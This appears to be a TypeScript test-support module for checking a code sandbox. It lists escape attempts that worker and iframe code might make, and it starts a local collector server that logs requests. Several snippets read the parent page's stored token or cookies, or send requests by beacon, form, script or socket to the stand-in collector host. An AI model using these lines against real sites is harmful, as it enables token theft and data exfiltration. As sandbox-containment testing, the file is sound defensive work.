import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

type Places = { site: string; collector: string; token: string }

/** What code may try from a worker. Each is the body of an async function that returns something when it has succeeded. */
const workerAttempts = ({ site, collector, token }: Places): Record<string, string> => ({
  'call the API': `return (await fetch('${site}/v1/site')).ok`,
  'call the API as the learner': `return (await fetch('${site}/v1/user/me', { headers: { authorization: 'Bearer ${token}' } })).ok`,
  'call the API unread': `return await fetch('${collector}/unread', { mode: 'no-cors' })`,
  'send a request': `return await new Promise((done, fail) => {
    const request = new XMLHttpRequest()
    request.open('GET', '${collector}/xhr')
    request.onload = () => done(true)
    request.onerror = fail
    request.send()
  })`,
  'open a stream': `return await new Promise((done, fail) => {
    const stream = new EventSource('${collector}/stream')
    stream.onmessage = () => done(true)
    stream.onerror = fail
  })`,
  'open a socket': `return await new Promise((done, fail) => {
    const socket = new WebSocket('${collector.replace('http', 'ws')}/socket')
    socket.onclose = socket.onerror = () => setTimeout(fail, 200)
  })`,
  'import a script': `return (await import('${collector}/module.js')).default`,
  'start a worker of the site': `return await new Promise((done, fail) => {
    const worker = new Worker('${site}/planted-echo.js')
    worker.onmessage = () => done(true)
    worker.onerror = fail
  })`,
  'open a database': `return await new Promise((done, fail) => {
    const request = indexedDB.open('escape')
    request.onsuccess = () => done(true)
    request.onerror = fail
  })`,
  'open a cache': `return await caches.open('escape')`,
  'open the file system': `return await navigator.storage.getDirectory()`,
  'talk to other tabs': `new BroadcastChannel('escape').postMessage('hello'); await new Promise((done) => setTimeout(done, 100)); return false`,
})

/** What a page in a frame may try on top of that. */
const windowAttempts = ({ site, collector }: Places): Record<string, string> => ({
  'read the page around it': `return parent.document.title`,
  'read the token': `return localStorage.getItem('token')`,
  'read the token of the page': `return parent.localStorage.getItem('token')`,
  'read cookies': `document.cookie = 'escape=1'; return document.cookie.includes('escape')`,
  'navigate the page around it': `top.location.replace(document.referrer + '#escaped'); return true`,
  'open a window': `return window.open('${collector}/window')`,
  'send a beacon': `navigator.sendBeacon('${collector}/beacon', 'x'); return false`,
  'load a picture': `return await new Promise((done, fail) => {
    const picture = new Image()
    picture.onload = () => done(true)
    picture.onerror = fail
    picture.src = '${collector}/picture.svg'
  })`,
  'load a script': element('script', { src: `${collector}/script.js` }),
  'load styles': element('link', { rel: 'stylesheet', href: `${collector}/styles.css` }),
  'fetch ahead': element('link', { rel: 'prefetch', href: `${collector}/prefetch` }),
  'embed a page of the site': `return await new Promise((done, fail) => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    frame.onload = () => { try { done(frame.contentDocument.body.innerHTML.length > 0) } catch (error) { fail(error) } }
    frame.src = '${site}/planted-echo.html'
  })`,
  'submit a form': `const form = document.body.appendChild(document.createElement('form'))
    const target = document.body.appendChild(document.createElement('iframe'))
    target.name = 'target'
    Object.assign(form, { action: '${collector}/form', method: 'post', target: 'target' })
    return await new Promise((done) => { target.onload = () => done(false); form.submit() })`,
})

const element = (tag: string, attributes: Record<string, string>) =>
  `return await new Promise((done, fail) => {
    const element = Object.assign(document.createElement('${tag}'), ${JSON.stringify(attributes)})
    element.onload = () => done(true)
    element.onerror = fail
    document.head.append(element)
  })`

/** A program that tries everything at once and prints one line for each: "open a cache: refused". */
function programOf(attempts: Record<string, string>): string {
  const list = Object.entries(attempts).map(([name, body]) => `[${JSON.stringify(name)}, async () => { ${body} }]`)
  return `const late = () => new Promise((_, fail) => setTimeout(fail, 1500))
await Promise.all([
${list.join(',\n')}
].map(async ([name, attempt]) => {
  let outcome = 'refused'
  try { if (await Promise.race([attempt(), late()])) outcome = 'succeeded' } catch {}
  console.log(name + ': ' + outcome)
}))
console.log('all tried')
`
}

export const workerProgram = (places: Places) => programOf(workerAttempts(places))
export const windowProgram = (places: Places) => programOf({ ...workerAttempts(places), ...windowAttempts(places) })
export const workerAttemptNames = Object.keys(workerAttempts({ site: '', collector: '', token: '' }))
export const windowAttemptNames = [
  ...workerAttemptNames,
  ...Object.keys(windowAttempts({ site: '', collector: '', token: '' })),
]

/** A server of somebody else: it answers everything to everybody and remembers what it was asked for. */
export async function openCollector() {
  const asked: string[] = []
  const types: Record<string, string> = { js: 'text/javascript', css: 'text/css', svg: 'image/svg+xml' }
  const bodies: Record<string, string> = {
    '/module.js': 'export default true',
    '/picture.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>',
    '/stream': 'data: hello\n\n',
  }
  const server = createServer(({ url = '' }, response) => {
    asked.push(url)
    const type = url === '/stream' ? 'text/event-stream' : (types[url.split('.').at(-1)!] ?? 'text/plain')
    response.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*' })
    response.end(bodies[url] ?? '')
  })
  server.on('upgrade', ({ url = '' }, socket) => {
    asked.push(url)
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    address: `http://127.0.0.1:${port}`,
    asked,
    close: () => {
      server.closeAllConnections()
      server.close()
    },
  }
}
